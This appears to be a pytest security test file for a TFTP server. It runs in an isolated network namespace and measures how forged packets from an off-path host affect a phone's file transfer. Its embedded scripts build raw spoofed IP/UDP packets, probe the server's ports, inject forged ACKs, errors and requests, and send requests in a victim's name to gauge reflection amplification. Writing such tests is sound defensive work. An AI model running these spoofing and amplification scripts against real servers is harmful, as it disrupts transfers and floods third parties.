"""A host that cannot see a transfer forges its packets; the tests measure what this ends and causes."""

import json
import re
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.attack.segment import Segment, segment
from tests.peers.namespaces import INTERFACE, read_until

pytestmark = pytest.mark.peers

PHONE, VICTIM, PORT = "10.77.2.1", "10.77.2.9", 50_000
BLOCKS = 256
"""Number of blocks in the file that the phone fetches."""
OWN_ADDRESSES = 120
"""Number of the hostile host's addresses; with so many, it misses one of the eight ports once in a million
times.
"""

FORGE = """
import socket, struct, sys, time
IMAGE = b"\\0\\1P003-8-12-00.sbn\\0octet\\0"
BLOCKS = 256
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
cost = 0

def learnt(request, addresses):
    ports = set()
    for number in range(1, 1 + addresses):
        own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        own.bind((f"10.77.3.{number}", 0))
        own.settimeout(5)
        own.sendto(request, ("10.77.0.1", 69))
        ports.add(own.recvfrom(2048)[1][1])
    return ports

def forge(source, port, to, data):
    global cost
    udp = struct.pack("!HHHH", port, to, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 69, 0, 0, 0, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton("10.77.0.1"))
    raw.sendto(head + udp, ("10.77.0.1", 0))
    cost += 14 + 20 + len(udp)

def ack(number):
    return struct.pack("!HH", 4, number % 65536)

ports = learnt(b"\\0\\1SIPDefault.cnf\\0octet\\0", 120)
assert len(ports) == 8, ports
"""

SPRAY = (
    FORGE
    + """
kind, number, until = sys.argv[1], 0, time.monotonic() + 4
while time.monotonic() < until:
    number += 1
    if kind == "requests":
        forge("10.77.2.1", 50000, 69, b"\\0\\1SIPDefault.cnf\\0octet\\0")
    for port in ports if kind != "requests" else ():
        forge("10.77.2.1", 50000, port, b"\\0\\5\\0\\0stop\\0" if kind == "errors" else ack(number % BLOCKS))
    time.sleep(0.0002)
print(number)
"""
)

SET_OFF = (
    FORGE
    + """
kind = sys.argv[1]
if kind == "requests":
    for number in range(400):
        forge("10.77.2.9", 2000 + number, 69, IMAGE)
elif kind == "requests and ACKs":
    for number in range(40):
        forge("10.77.2.9", 2000 + number, 69, IMAGE)
        time.sleep(0.01)
        for block in range(1, 257):
            for port in ports:
                forge("10.77.2.9", 2000 + number, port, ack(block))
else:
    options = b"blksize\\x001468\\0windowsize\\x0044\\0"
    (last,) = learnt(IMAGE + options, 1)
    for number in range(10):
        forge("10.77.2.9", 2000 + number, 69, IMAGE + options)
        time.sleep(0.05)
        for block in range(0, 133, 44):
            forge("10.77.2.9", 2000 + number, last, ack(block))
time.sleep(4)
print(cost)
"""
)

FETCH = """
import socket, struct, time
phone = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
phone.bind(("10.77.2.1", 50000))
phone.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
phone.settimeout(1)
said, blocks, repeats, length = (b"\\0\\1P003-8-12-00.sbn\\0octet\\0", ("10.77.0.1", 69)), 0, 0, 516
phone.sendto(*said)
while repeats < 5 and length == 516:
    try:
        data, peer = phone.recvfrom(2048)
    except TimeoutError:
        repeats += 1
        phone.sendto(*said)
        continue
    time.sleep(0.015)
    if data[:2] == b"\\0\\3" and data[2:4] == struct.pack("!H", blocks + 1):
        blocks, said, length = blocks + 1, (b"\\0\\4" + data[2:4], peer), len(data)
        phone.sendto(*said)
    if blocks == 5:
        print("receives", flush=True)
print("has", blocks, "after", repeats, "repeated")
"""


@contextmanager
def blind(folder: Path) -> Iterator[Segment]:
    """A segment in which the phone has two addresses, and the hostile host has many."""
    with segment(folder) as here:
        add = f'for each in "$@"; do ip address add $each/16 dev {INTERFACE}; done'
        here.net.run("phone", ["sh", "-c", add, "-", PHONE, VICTIM])
        own = [f"10.77.3.{number}" for number in range(1, OWN_ADDRESSES + 1)]
        here.net.run("attacker", ["sh", "-c", add, "-", *own])
        yield here
        here.net.run("phone", ["ip", "address", "flush", "dev", INTERFACE])
        assert here.boot() == ""


def received(here: Segment) -> int:
    """Return the number of bytes that have arrived at the phone's interface."""
    told = here.net.run("phone", ["ip", "-json", "-statistics", "link", "show", INTERFACE]).stdout
    return int(json.loads(told)[0]["stats64"]["rx"]["bytes"])


@pytest.mark.parametrize("kind", ["errors", "requests"])
def test_forged_errors_and_requests_end_no_transfer(
    tmp_path: Path, kind: str, measured: Callable[[str], None]
) -> None:
    blocks, repeats, forged = fetched_beside(tmp_path, kind)
    measured(
        f"{forged} rounds of forged {kind}: {blocks} of {BLOCKS} blocks arrived, {repeats} packets repeated"
    )
    assert blocks == BLOCKS
    assert forged > 100


def test_what_guessed_acks_end_is_measured(tmp_path: Path, measured: Callable[[str], None]) -> None:
    blocks, repeats, forged = fetched_beside(tmp_path, "acks")
    measured(
        f"{forged} rounds of guessed ACKs: {blocks} of {BLOCKS} blocks arrived, {repeats} packets repeated"
    )
    assert blocks > 0


def fetched_beside(folder: Path, kind: str) -> tuple[int, int, int]:
    """Return the phone's blocks and repeated packets, and the rounds of packets that were forged
    meanwhile.
    """
    with blind(folder) as here:
        phone = here.net.popen("phone", [sys.executable, "-c", FETCH])
        read_until(phone, "receives")
        forge = here.attack_beside(SPRAY, kind)
        blocks, repeats = map(int, re.findall(r"\d+", read_until(phone, "repeated", seconds=60)))
        forged = int(forge())
    return blocks, repeats, forged


@pytest.mark.parametrize(
    ("kind", "most"), [("requests", 30), ("requests and ACKs", 3), ("requests, ACKs and windows", 2_000)]
)
def test_what_one_host_sends_in_anothers_name_sets_off_so_many_times_as_much(
    tmp_path: Path, kind: str, most: float, measured: Callable[[str], None]
) -> None:
    with blind(tmp_path) as here:
        before = received(here)
        sent = int(here.attack(SET_OFF, kind))
        times = (received(here) - before) / sent
    measured(f"{kind} in another's name: {sent} bytes sent, {times:.1f} times as many set off")
    assert times < most
